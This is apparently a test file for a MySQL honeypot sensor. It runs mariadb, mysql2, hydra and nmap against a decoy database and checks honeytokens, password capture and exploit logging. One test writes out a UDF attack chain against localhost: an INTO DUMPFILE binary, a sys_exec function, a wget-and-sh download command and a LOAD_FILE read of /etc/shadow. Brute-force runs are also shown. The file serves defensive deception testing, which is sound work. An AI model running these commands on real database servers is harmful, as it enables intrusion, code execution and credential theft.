// Real-client tests: the mariadb client, the mysql2 npm client, hydra and nmap against the MySQL sensor.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import mysql from 'mysql2/promise';
import { runCli, startApiaryProcess, type ApiaryProcess } from '../../helpers/apiary-process.js';
import { run, sshWithPassword } from '../../helpers/ssh-tools.js';
import { nativeScramble } from '../../../src/sensors/mysql/scramble.js';

let apiary: ApiaryProcess;
let port: number;

before(async () => {
  apiary = await startApiaryProcess({
    sensor: 'mysql-real-clients',
    auth: [
      { user: 'root', password: ['123456', 'letmein'], allow: true },
      { user: 'deploy', password: '/^Deploy-[0-9]{4}$/', allow: true },
    ],
    services: { mysql: { listen: ['127.0.0.1:0'], version: '8.0.36' } },
    decoy: { database: 'webshop' },
    // The install's host name (@@hostname without a shell running too), fixed for the expectations.
    shell: { hostname: 'db01' },
  });
  port = apiary.ports.mysql!;
});

after(async () => {
  await apiary.stop();
});

function mariadb(user: string, password: string, sql: string, db?: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return run('mariadb', ['-h', '127.0.0.1', '-P', String(port), '-u', user, `-p${password}`, '--batch', '--connect-timeout=10', ...(db ? [db] : []), '-e', sql], { timeoutMs: 30_000 });
}

test('mariadb client logs in with the allowed weak password and reads tables that look real', async () => {
  const r = await mariadb('root', '123456', 'SHOW DATABASES; USE webshop; SHOW TABLES; SELECT * FROM users LIMIT 5;');
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trim().split('\n');
  assert.deepEqual(lines.slice(0, 6), ['Database', 'information_schema', 'mysql', 'performance_schema', 'sys', 'webshop']);
  assert.ok(lines.includes('Tables_in_webshop'));
  for (const t of ['customers', 'orders', 'users', 'admins']) assert.ok(lines.includes(t), `table ${t} listed`);
  const header = lines.indexOf('id\tusername\temail\tpassword\trole\tlast_login');
  assert.ok(header > 0, r.stdout);
  const rows = lines.slice(header + 1);
  assert.equal(rows.length, 5);
  for (const row of rows) assert.match(row, /^\d+\t[a-z0-9]+\t[a-z0-9]+@[a-z.]+\t[0-9a-f]{32}\t[a-z]+\t\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);

  const denied = await mariadb('root', 'not-this-one', 'SELECT 1');
  assert.notEqual(denied.code, 0);
  assert.match(denied.stderr, /ERROR 1045 \(28000\): Access denied for user 'root'@'127\.0\.0\.1' \(using password: YES\)/);
});

test('mysql2 (npm) client logs in, runs the same statements, and the decoy takes its changes in its own view', async () => {
  const c = await mysql.createConnection({ host: '127.0.0.1', port, user: 'root', password: '123456' });
  try {
    const [dbs] = await c.query('SHOW DATABASES');
    assert.ok((dbs as { Database: string }[]).some((d) => d.Database === 'webshop'));
    await c.query('USE webshop');
    const [tables] = await c.query('SHOW TABLES');
    assert.deepEqual((tables as Record<string, string>[]).map((t) => t['Tables_in_webshop']), ['admins', 'customers', 'orders', 'users']);
    const [users] = await c.query('SELECT * FROM users LIMIT 5');
    assert.equal((users as unknown[]).length, 5);
    const [[count]] = (await c.query('SELECT COUNT(*) AS n FROM orders WHERE total > 100')) as unknown as [[{ n: number }]];
    assert.ok(count!.n > 0 && count!.n < 600);
    const [[v]] = (await c.query('SELECT @@version AS v, @@hostname AS h, user() AS u, database() AS d')) as unknown as [[Record<string, string>]];
    assert.deepEqual(v, { v: '8.0.36', h: 'db01', u: 'root@127.0.0.1', d: 'webshop' });
    const [ins] = (await c.query("INSERT INTO customers (first_name, last_name, email) VALUES ('Eve', 'Mallory', 'eve@example.org')")) as unknown as [{ insertId: number; affectedRows: number }];
    assert.equal(ins.affectedRows, 1);
    assert.equal(ins.insertId, 201);
    const [[eve]] = (await c.query('SELECT first_name, email FROM customers WHERE id = 201')) as unknown as [[Record<string, string>]];
    assert.deepEqual(eve, { first_name: 'Eve', email: 'eve@example.org' });
    const [del] = (await c.query('DELETE FROM orders WHERE id <= 1010')) as unknown as [{ affectedRows: number }];
    assert.equal(del.affectedRows, 10);
    const [[after]] = (await c.query('SELECT COUNT(*) AS n FROM orders')) as unknown as [[{ n: number }]];
    assert.equal(after!.n, 590);
    await assert.rejects(c.query('SELECT * FROM nope'), /Table 'webshop.nope' doesn't exist/);
  } finally {
    await c.end();
  }
});

test('a honeytoken read from the admins table logs in, and apiary honeytokens lists it masked', async () => {
  const c = await mysql.createConnection({ host: '127.0.0.1', port, user: 'root', password: '123456', database: 'webshop' });
  let token: { username: string; password: string };
  try {
    const [rows] = await c.query("SELECT username, password FROM admins WHERE username <> 'admin' ORDER BY id LIMIT 1");
    token = (rows as { username: string; password: string }[])[0]!;
  } finally {
    await c.end();
  }
  const jump = await mariadb(token.username, token.password, 'SELECT current_user()');
  assert.equal(jump.code, 0, `the planted credential ${token.username} is accepted: ${jump.stderr}`);

  const list = await runCli(['honeytokens', '--config', apiary.configPath]);
  assert.match(list.stdout, /webshop\.admins/);
  assert.match(list.stdout, /mysql:mysql\.user/);
  assert.ok(list.stdout.includes(token.username));
  assert.ok(!list.stdout.includes(token.password), 'values are masked');
  assert.match(list.stdout, /^6 honeytokens$/m);
  const json = (await runCli(['honeytokens', '--config', apiary.configPath, '--json'])).stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  const mine = json.find((t) => t.username === token.username)!;
  assert.deepEqual(mine.locations, ['mysql:webshop.admins']);
  assert.equal(mine.accepted, true);
  assert.equal(String(mine.secret_masked).length, token.password.length);
  assert.ok(!JSON.stringify(json).includes(token.password));
  assert.match(String(mine.first_planted), /^\d{4}-\d\d-\d\dT/);
});

test('caching_sha2_password full authentication: passwords in no list are recovered in plaintext from mariadb and mysql2', async () => {
  const denied = await mariadb('root', 'Zq-Only-Here-7', 'SELECT 1');
  assert.notEqual(denied.code, 0);
  assert.match(denied.stderr, /ERROR 1045/);
  const ok = await mariadb('deploy', 'Deploy-2024', 'SELECT current_user()');
  assert.equal(ok.code, 0, `a password matching a pattern rule logs in: ${ok.stderr}`);
  await assert.rejects(mysql.createConnection({ host: '127.0.0.1', port, user: 'deploy', password: 'Deploy-20x4' }), /Access denied/);
  const c = await mysql.createConnection({ host: '127.0.0.1', port, user: 'deploy', password: 'Deploy-1999' });
  await c.end();
  const attempts = await apiary.events(['--type', 'auth.attempt']);
  const seen = (u: string, p: string, ok: boolean): boolean => attempts.some((e) => e.username === u && e.password === p && e.success === ok);
  assert.ok(seen('root', 'Zq-Only-Here-7', false));
  assert.ok(seen('deploy', 'Deploy-2024', true));
  assert.ok(seen('deploy', 'Deploy-20x4', false));
  assert.ok(seen('deploy', 'Deploy-1999', true));
});

test('hydra finds the allowed password; every attempt is stored with its password in plaintext', async () => {
  const dir = apiary.dir;
  const words = join(dir, 'hydra-words.txt');
  writeFileSync(words, 'Xq9-not-weak\nletmeout\n123456\n');
  const r = await run('hydra', ['-l', 'admin', '-P', words, '-t', '1', '-I', `mysql://127.0.0.1:${port}`], { timeoutMs: 60_000 });
  assert.match(r.stdout, /\b0 valid password found/, 'admin has no allowed password here');
  const r2 = await run('hydra', ['-l', 'root', '-P', words, '-t', '1', '-I', `mysql://127.0.0.1:${port}`], { timeoutMs: 60_000 });
  assert.match(r2.stdout, /login: root\s+password: 123456/, r2.stdout + r2.stderr);

  const events = await apiary.events(['--type', 'auth.attempt']);
  const admin = events.filter((e) => e.username === 'admin');
  // hydra's MySQL module speaks through the client library, which completes caching_sha2_password
  // full authentication: even passwords in no list arrive in plaintext.
  assert.deepEqual(
    admin.map((e) => [e.password, e.success]),
    [
      ['Xq9-not-weak', false],
      ['letmeout', false],
      ['123456', false],
    ],
  );
  assert.ok(events.some((e) => e.username === 'root' && e.password === '123456' && e.success === true));
});

test('nmap -sV names MySQL, and mysql-info, mysql-empty-password and mysql-brute give plausible results', async () => {
  const users = join(apiary.dir, 'nmap-users.txt');
  const pass = join(apiary.dir, 'nmap-pass.txt');
  writeFileSync(users, 'root\n');
  writeFileSync(pass, 'hunter2\n123456\n');
  const r = await run(
    'nmap',
    ['-Pn', '-n', '-p', String(port), '-sV', '--script', 'mysql-info,mysql-empty-password,mysql-brute', '--script-args', `userdb=${users},passdb=${pass}`, '127.0.0.1'],
    { timeoutMs: 120_000 },
  );
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`${port}/tcp\\s+open\\s+mysql\\s+MySQL 8\\.0\\.36`));
  assert.doesNotMatch(r.stdout, /honeypot|dionaea/i);
  assert.match(r.stdout, /mysql-info:[\s\S]*Protocol: 10[\s\S]*Version: 8\.0\.36[\s\S]*Auth Plugin Name: caching_sha2_password/);
  assert.match(r.stdout, /Some Capabilities:.*SwitchToSSLAfterHandshake/, 'TLS is offered, as mysqld always does');
  assert.match(r.stdout, /mysql-brute:[\s\S]*root:123456 - Valid credentials/);
  assert.doesNotMatch(r.stdout, /account has empty password/, 'no account takes an empty password here');
  // nmap scrambles with mysql_native_password itself: a password in no list is kept in the form
  // crackers read (hashcat 11200), and that hash cracks to what nmap sent.
  const attempts = await apiary.events(['--type', 'auth.attempt']);
  const hashed = attempts.filter((e) => e.username === 'root' && typeof e.hash === 'string');
  assert.ok(hashed.length >= 1, 'hunter2 is stored as a hash');
  const cracks = hashed.some((e) => {
    const m = /^\$mysqlna\$([0-9a-f]{40})\*([0-9a-f]{40})$/.exec(String(e.hash));
    return m !== null && nativeScramble('hunter2', Buffer.from(m[1]!, 'hex')).toString('hex') === m[2];
  });
  assert.ok(cracks, 'the stored hash cracks to the password nmap sent');
  assert.ok(attempts.some((e) => e.username === 'root' && e.password === '123456' && e.success === true));

  // With the found password, nmap's post-login scripts read the decoy (and its honeytokens).
  const post = await run(
    'nmap',
    ['-Pn', '-n', '-p', String(port), '-sV', '--script', 'mysql-databases,mysql-users,mysql-query', '--script-args', 'mysqluser=root,mysqlpass=123456,username=root,password=123456,query=SELECT * FROM webshop.admins', '127.0.0.1'],
    { timeoutMs: 120_000 },
  );
  assert.match(post.stdout, /mysql-databases:[\s\S]*webshop/);
  assert.match(post.stdout, /mysql-users:[\s\S]*webshop_app/);
  assert.match(post.stdout, /mysql-query:[\s\S]*username\s+password[\s\S]*admin\s+\S+/);
});

test('attack moves: a binary written with INTO DUMPFILE lands in quarantine; UDF creation and sys_exec are recorded', async () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0x90)]);
  const c = await mysql.createConnection({ host: '127.0.0.1', port, user: 'root', password: '123456' });
  try {
    await c.query(`SELECT 0x${elf.toString('hex')} INTO DUMPFILE '/usr/lib/mysql/plugin/udf_x.so'`);
    await c.query("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf_x.so'");
    await c.query("SELECT sys_exec('wget http://127.0.0.1:9/x.sh -O /tmp/x.sh; sh /tmp/x.sh')");
    const [[lf]] = (await c.query("SELECT LOAD_FILE('/etc/shadow') AS f")) as unknown as [[{ f: unknown }]];
    assert.equal(lf!.f, null);
  } finally {
    await c.end();
  }
  const sha = createHash('sha256').update(elf).digest('hex');
  const events = await apiary.events();
  const exploits = events.filter((e) => e.type === 'exploit.attempt');
  const dump = exploits.find((e) => e.name === 'mysql.into_dumpfile');
  assert.equal(dump?.sha256, sha);
  assert.equal(dump?.detail, 'write /usr/lib/mysql/plugin/udf_x.so');
  assert.ok(exploits.some((e) => e.name === 'mysql.hex_payload' && e.sha256 === sha && /ELF/.test(String(e.detail))));
  assert.ok(exploits.some((e) => e.name === 'mysql.udf_create' && e.detail === 'function sys_exec from udf_x.so'));
  assert.ok(exploits.some((e) => e.name === 'mysql.udf_exec'));
  assert.ok(exploits.some((e) => e.name === 'mysql.load_file' && e.detail === 'read /etc/shadow'));
  assert.ok(events.some((e) => e.type === 'file.upload' && e.sha256 === sha && e.filename === '/usr/lib/mysql/plugin/udf_x.so'));
  assert.ok(events.some((e) => e.type === 'command.input' && e.input === 'wget http://127.0.0.1:9/x.sh -O /tmp/x.sh; sh /tmp/x.sh'));
  assert.ok(events.some((e) => e.type === 'file.download' && e.url === 'http://127.0.0.1:9/x.sh'));
  const stored = join(apiary.dir, 'data', 'quarantine', sha);
  assert.ok(existsSync(stored));
  assert.deepEqual(readFileSync(stored), elf);
  const queries = events.filter((e) => e.type === 'query').map((e) => String(e.query));
  assert.ok(queries.includes("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf_x.so'"));
});

test("one host, one name: @@hostname is the fake shell's host name when SSH runs beside MySQL", async () => {
  const both = await startApiaryProcess({ sensor: 'mysql-hostname', services: { ssh: { listen: ['127.0.0.1:0'] }, mysql: { listen: ['127.0.0.1:0'] } } });
  try {
    const shell = await sshWithPassword(both.ports.ssh!, 'root', '123456', 'hostname');
    assert.equal(shell.code, 0, shell.stderr);
    const name = shell.stdout.trim();
    assert.match(name, /^[a-z]+[-\w]*$/);
    const db = await run('mariadb', ['-h', '127.0.0.1', '-P', String(both.ports.mysql), '-u', 'root', '-p123456', '--batch', '--skip-column-names', '-e', 'SELECT @@hostname, @@general_log_file'], { timeoutMs: 30_000 });
    assert.equal(db.stdout.trim(), `${name}\t/var/lib/mysql/${name}.log`, db.stderr);
  } finally {
    await both.stop();
  }
});
